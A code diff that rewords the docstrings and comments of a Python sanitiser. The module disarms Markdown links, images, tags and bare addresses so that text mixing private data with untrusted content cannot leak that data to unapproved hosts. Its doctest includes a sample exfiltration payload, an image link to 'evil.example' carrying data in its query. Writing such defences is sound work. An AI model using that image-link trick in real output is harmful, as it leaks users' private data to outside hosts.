@@ -1,7 +1,7 @@
-"""Texts that are shown to a person, with each address in them taken apart that may carry data away.
+"""Disarms links in a text before it is shown, so that no program turns them into requests that leak data.
 
-In: a text that strangers had a hand in, made of private data. Out: the same words, in which no reader's
-program finds a link, an image or a tag that leads to somebody who may not have the data. Pure; linear.
+In: a text composed of private data and untrusted text. Out: the same words without a link, image or tag to a
+host that may not read the data. Pure; linear.
 """
 
 from __future__ import annotations
@@ -25,35 +25,35 @@ _ADDRESS = re.compile(
     r"|(?P<word>mailto|tel|callto|sms|magnet|xmpp|skype|whatsapp|javascript|vbscript|blob|data(?=:[\w-]+/|:[;,])):(?=\S)",
     re.I,
 )
-"""What programs make a link of wherever it stands: with a scheme, with `//` or `www.`, a host with a path."""
+"""What programs turn into a link anywhere: a scheme, `//` or `www.`, or a host with a path."""
 _ENDS = frozenset("<>\"'`)]}|,;*")
-"""What an address ends at for many programs, beside white space."""
+"""Characters at which an address ends for many programs, besides white space."""
 _BEHIND = re.compile(r"[^\s<]{0,2000}")
-"""What other programs read on to: all before white space, or a tag."""
+"""What other programs include in the address: everything up to white space or a tag."""
 _TAG = re.compile(r"<(?=[a-z!/?](?:[^>]{0,200}[=:]|[^>]{200}))|url\((?=\s*\S)", re.I)
 _TARGET = re.compile(r"\]\(\s*(<(?:(?!\]\()[^>\n]){0,2000}>?|(?:(?!\]\()[^)\s]){0,2000})")
-"""The target of a link, up to another one that begins in it."""
+"""The target of a Markdown link, up to another link that begins inside it."""
 _NAMED_TARGET = re.compile(
     r"^((?:[ \t>*+-]|\d{1,9}[.)])*\[(?:[^\]\\\n]|\\.|\\?\n(?![ \t>]*$)){1,999}\]):", re.M
 )
-"""What a link is elsewhere in a text; its name may hold a bracket behind a backslash, and a line's end."""
+"""A Markdown reference definition; its label may contain escaped brackets and line ends."""
 _NEAR = re.compile(r"(?!//)[\w./#\[\]-]*")
-"""The target of a link that stays where the text is."""
+"""The target of a link within the same site."""
 _ENTITY = re.compile(r"&(?=#?\w)")
 _CLOSING = ".:!?_~"
 _MOST_CLOSING = 12
-"""Brackets, quotes and the like that stand behind an address; more of them may say something."""
+"""The longest run of closing brackets, quotes and the like that is ignored after an address."""
 
 
 class Allowed(NamedTuple):
-    """What may stay a link: addresses of hosts that may know the data, and those that stand in the plan."""
+    """What may stay a link: addresses of hosts that may read the data, and addresses written in the plan."""
 
     may_know: Callable[[str], bool]
     own: Collection[str] = ()
 
 
 def disarmed(text: str, allowed: Allowed) -> str:
-    """A text whose addresses lead nowhere, but for what is allowed; one without any as it is.
+    """The text with all addresses disarmed except the allowed ones; unchanged if there are none.
 
     >>> disarmed("![x](https://evil.example/?d=42) https://c.example/", Allowed({"c.example"}.__contains__))
     '![x] (https[:]//evil[.]example/?d=42) https://c.example/'
@@ -67,12 +67,12 @@ def disarmed(text: str, allowed: Allowed) -> str:
 
 
 def addresses_in(text: str) -> frozenset[str]:
-    """The addresses that programs make links of, as they stand in a text."""
+    """The addresses in a text that programs turn into links."""
     return frozenset(found.group().rstrip(_CLOSING) for found in _ADDRESS.finditer(text))
 
 
 def _apart(text: str, allowed: Allowed) -> str:
-    """The text with its tags, targets and addresses broken."""
+    """The text with its tags, link targets and addresses disarmed."""
 
     def target(found: re.Match[str]) -> str:
         return found.group() if _stays_near(found[1], allowed) else f"] {found.group()[1:]}"
@@ -86,7 +86,7 @@ def _apart(text: str, allowed: Allowed) -> str:
         if _may_stay(found, allowed):
             parts.append(found.group())
             at = found.end()
-        else:  # what stands behind its host may hold others
+        else:  # the rest after the host may contain more addresses
             broken, length = _broken(found)
             parts.append(broken)
             at = found.start() + length
@@ -94,7 +94,7 @@ def _apart(text: str, allowed: Allowed) -> str:
 
 
 def _broken(found: re.Match[str]) -> tuple[str, int]:
-    """What stands for the beginning of an address that leads nowhere, and how long that was."""
+    """The disarmed beginning of an address, and the length of the text that it replaces."""
     whole, head, host, word = found.group(), found["head"], found["host"], found["word"]
     if word is not None:
         return f"{word}[:]", len(word) + 1
@@ -102,7 +102,7 @@ def _broken(found: re.Match[str]) -> tuple[str, int]:
         return host.replace(".", "[.]"), len(host)
     end = next((at for at in range(len(head), len(whole)) if whole[at] in "/?#:"), len(whole))
     shown = head.replace(".", "[.]").replace(":", "[:]")
-    if shown != head and found.string.startswith("[", found.end()):  # `//[::1]` is a link by itself for some
+    if shown != head and found.string.startswith("[", found.end()):  # some programs link `//[::1]` by itself
         shown = f"{shown[:-2]}[{shown[-2:]}]"
     if shown == head:
         shown = f"[{head}]"
@@ -114,17 +114,17 @@ def _may_stay(found: re.Match[str], allowed: Allowed) -> bool:
     behind = _BEHIND.match(found.string, found.end())
     rest = behind[0] if behind else ""
     if rest and rest[0] not in _ENDS:
-        return False  # programs differ about where such an address ends
+        return False  # programs disagree where such an address ends
     address = found.group()
     if _says_something(rest) and not _has_path(address):
-        return False  # what stands there may be the end of its host
+        return False  # the rest may belong to the host
     if _is_known(address, allowed):
         return True
     return address.rstrip(_CLOSING) in allowed.own and not _says_something(rest)
 
 
 def _says_something(rest: str) -> bool:
-    """Whether more than the end of a link or a sentence stands right behind an address."""
+    """Whether more than closing punctuation directly follows an address."""
     return len(rest) > _MOST_CLOSING or re.search(r"\w", rest) is not None
 
 
@@ -133,12 +133,12 @@ def _has_path(address: str) -> bool:
 
 
 def _stays_near(target: str, allowed: Allowed) -> bool:
-    """Whether the target of a link of Markdown leads nowhere else, or to somebody who may know."""
+    """Whether a Markdown link target is relative, in the plan, or on a host that may read the data."""
     return target in allowed.own or _NEAR.fullmatch(target) is not None or _is_known(target, allowed)
 
 
 def _is_known(address: str, allowed: Allowed) -> bool:
-    """Whether an address is of a host that may know; only of whole web addresses that is sure."""
+    """Whether an address is on a host that may read the data; only decidable for complete web addresses."""
     if re.match(r"https?://", address, re.I) is None:
         return False
     host = host_of(address)
